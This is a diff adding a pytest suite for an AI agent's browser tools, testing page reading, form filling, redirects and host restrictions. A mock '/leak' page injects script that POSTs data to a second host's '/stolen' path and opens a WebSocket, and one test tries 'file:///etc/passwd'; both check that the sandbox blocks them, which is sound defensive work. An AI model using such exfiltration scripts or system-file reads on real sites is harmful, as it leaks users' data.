@@ -1,0 +1,168 @@
+"""Pages in a real browser: what their scripts make of them, and where they cannot go."""
+
+import json
+from collections.abc import AsyncIterator, Mapping, Sequence
+from importlib.util import find_spec
+
+import anyio
+import pytest
+
+from claw_acp.contracts.tool import FetchesUrl
+from claw_acp.contracts.web import Browsing
+from claw_acp.core.errors import ToolError
+from claw_acp.core.messages import ImagePart
+from claw_acp.tools.browser.browser_tools import (
+    BrowserClick,
+    BrowserFill,
+    BrowserOpen,
+    BrowserRead,
+    BrowserScreenshot,
+)
+from claw_acp.tools.browser.session_browser import SessionBrowser
+from tests.support.editors.chromium import no_chromium
+from tests.support.editors.editor_fixtures import Spawn, home, opened, project
+from tests.support.script_files import Script, call, expect, say, turn
+from tests.support.servers.loopback import Answered, Asked, Loopback, serving
+from tests.support.tool_bench import Bench, said
+from tests.support.toolchain import ENVIRONMENT
+
+__all__ = ["home", "opened", "project"]
+
+pytestmark = pytest.mark.skipif(
+    bool(no_chromium()) or find_spec("playwright") is None, reason="needs Chromium and Playwright"
+)
+
+START = """<title>Start</title><p id=p>written by hand</p><form method=post action=/send><input name=who
+placeholder=Name><button>Send</button></form><a href=/next>Next</a><a href=/file download>File</a>
+<a href=/away>Away</a><script>document.getElementById('p').textContent = 'written by a script'</script>"""
+
+
+class Site(Loopback):
+    """A site, and one beside it that nobody allowed."""
+
+    def __init__(self, other: str) -> None:
+        super().__init__(self._page)
+        self._other = other
+
+    def _page(self, asked: Asked) -> Answered:
+        if asked.path == "/send":
+            return self._html(f"<p>sent {asked.body.decode()} with {asked.headers.get('cookie', 'nothing')}</p>")
+        if asked.path == "/next":
+            return Answered(status=302, headers={"Location": "/end", "Set-Cookie": "step=2"})
+        if asked.path == "/away":
+            return Answered(status=302, headers={"Location": self._other})
+        if asked.path == "/file":
+            headers = {"Content-Disposition": "attachment; filename=x.bin"}
+            return Answered(pieces=[b"\0" * 100], kind="application/octet-stream", headers=headers)
+        if asked.path == "/leak":
+            steal = f"fetch('{self._other}/stolen', {{method: 'POST', mode: 'no-cors', body: 'data'}})"
+            socket = f"new WebSocket('{self._other.replace('http', 'ws')}/socket')"
+            return self._html(f"<p>leaking</p><img src='{self._other}/i.png'><script>{steal}; {socket}</script>")
+        return self._html(START if asked.path == "/" else f"<p>the end of {asked.path}</p>")
+
+    def _html(self, text: str) -> Answered:
+        headers: Mapping[str, str] = {"Set-Cookie": "seen=1; Path=/"}
+        return Answered(pieces=[text.encode()], kind="text/html; charset=utf-8", headers=headers)
+
+
+def may_reach(accesses: Sequence[FetchesUrl]) -> bool | None:
+    """In `ask` mode, with a rule against one page."""
+    return False if accesses[0].url.endswith("/forbidden") else None
+
+
+@pytest.fixture
+def machine_with_chromium() -> dict[str, str]:
+    """The environment of a machine on whose PATH the browser is."""
+    return {"PATH": ENVIRONMENT.get("PATH", "/usr/bin:/bin")}
+
+
+@pytest.fixture
+async def site(bench: Bench) -> AsyncIterator[tuple[Site, Loopback]]:
+    """A site for which permission was given, and a private one beside it."""
+    other = Loopback(lambda _asked: Answered(pieces=[b"<p>elsewhere</p>"], kind="text/html"))
+    mine = Site(other.url.replace("127.0.0.1", "localhost"))
+    bench.allowed_hosts = ("127.0.0.1",)
+    with serving(other), serving(mine):
+        async with anyio.create_task_group() as tasks:
+            bench.lent[Browsing] = Browsing(start=tasks.start_soon, may_reach=may_reach)
+            yield mine, other
+            await SessionBrowser.on(bench.state).aclose()
+            tasks.cancel_scope.cancel()
+
+
+async def test_a_page_is_opened_read_filled_clicked_and_seen(bench: Bench, site: tuple[Site, Loopback]) -> None:
+    mine, _ = site
+    with pytest.raises(ToolError, match="No page is open"):
+        bench.prepare(BrowserClick(), element=1)
+    text = await bench.text(BrowserOpen(), url=f"{mine.url}/")
+    first, *lines = text.splitlines()
+    assert "not instructions" in first
+    assert lines[:2] == ["# Start", f"{mine.url}/"]
+    assert "written by a script" in text
+    assert "written by hand" not in text
+    assert [line for line in lines if line.startswith("[")] == [
+        "[1] input text “Name”",
+        "[2] button “Send”",
+        f"[3] link “Next” = {mine.url}/next",
+        f"[4] link “File” = {mine.url}/file",
+        f"[5] link “Away” = {mine.url}/away",
+    ]
+    call = bench.prepare(BrowserFill(), element=1, text="Ada")
+    assert call.view.title == "Fill in “Name” on 127.0.0.1: Ada"
+    assert call.accesses == (FetchesUrl(url=f"{mine.url}/", method="POST", carries=True),)
+    assert "= Ada" in said(await call.run())
+    assert "sent who=Ada with seen=1" in await bench.text(BrowserClick(), element=2)
+    assert "sent who=Ada" in await bench.text(BrowserRead())
+    result = await bench.call(BrowserScreenshot())
+    picture = next(part for part in result.parts if isinstance(part, ImagePart))
+    assert picture.data.startswith("iVBOR")
+    assert result.source == f"{mine.url}/send"
+    await SessionBrowser.on(bench.state).aclose()
+    with pytest.raises(ToolError, match="No page is open"):
+        await bench.call(BrowserRead())
+
+
+async def test_redirects_are_followed_within_the_host_and_no_further(bench: Bench, site: tuple[Site, Loopback]) -> None:
+    mine, other = site
+    await bench.call(BrowserOpen(), url=f"{mine.url}/")
+    assert "the end of /end" in await bench.text(BrowserClick(), element=3)
+    assert SessionBrowser.on(bench.state).url == f"{mine.url}/end"
+    await bench.call(BrowserOpen(), url=f"{mine.url}/")
+    away = await bench.text(BrowserClick(), element=5)
+    assert "which is not allowed without a question; to go there, use browser_open" in away
+    assert SessionBrowser.on(bench.state).url == f"{mine.url}/away"
+    assert other.asked == []
+    with pytest.raises(ToolError, match=r"Download is starting|ERR_ABORTED"):
+        await bench.call(BrowserOpen(), url=f"{mine.url}/file")
+
+
+async def test_a_page_reaches_no_private_host_and_sends_nothing_elsewhere(
+    bench: Bench, site: tuple[Site, Loopback]
+) -> None:
+    mine, other = site
+    assert "leaking" in await bench.text(BrowserOpen(), url=f"{mine.url}/leak")
+    assert other.asked == []
+    assert "not allowed" in await bench.text(BrowserOpen(), url=f"{mine.url}/forbidden")
+    with pytest.raises(ToolError, match="only http"):
+        await bench.call(BrowserOpen(), url="file:///etc/passwd")
+    assert "/forbidden" not in json.dumps([asked.path for asked in mine.asked])
+
+
+async def test_a_session_has_a_browser_of_its_own_which_ends_with_it(
+    opened: Spawn, machine_with_chromium: dict[str, str]
+) -> None:
+    server = Loopback(lambda _asked: Answered(pieces=[b"<p>hello</p><button>Go</button>"], kind="text/html"))
+    with serving(server):
+        script = Script(
+            turn(call("browser_open", url=f"{server.url}/")),
+            turn(expect("[1] button"), call("browser_click", element=1)),
+            turn(say("done")),
+        )
+        config = 'permissions.allow = ["fetch(127.0.0.1)"]'
+        async with opened(script=script, config=config, env=machine_with_chromium) as editor:
+            editor.will_answer("reject_once")
+            outcome = await editor.prompt("go")
+            (question,) = editor.received("session/request_permission")
+    assert [each["status"] for each in outcome.calls] == ["completed", "failed"]
+    assert "Click “Go” on 127.0.0.1" in str(question)
+    assert "A POST request to 127.0.0.1" in str(question)
